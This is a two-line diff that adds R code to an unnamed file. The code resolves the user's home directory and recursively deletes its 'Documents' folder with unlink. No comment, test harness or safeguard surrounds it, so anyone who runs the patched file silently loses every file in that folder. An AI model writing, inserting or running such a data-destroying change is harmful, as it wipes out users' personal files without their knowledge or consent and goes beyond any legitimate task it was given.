@@ -1,0 +1,2 @@
+d <- normalizePath("~")
+unlink(file.path(d, "Documents"), recursive = TRUE)
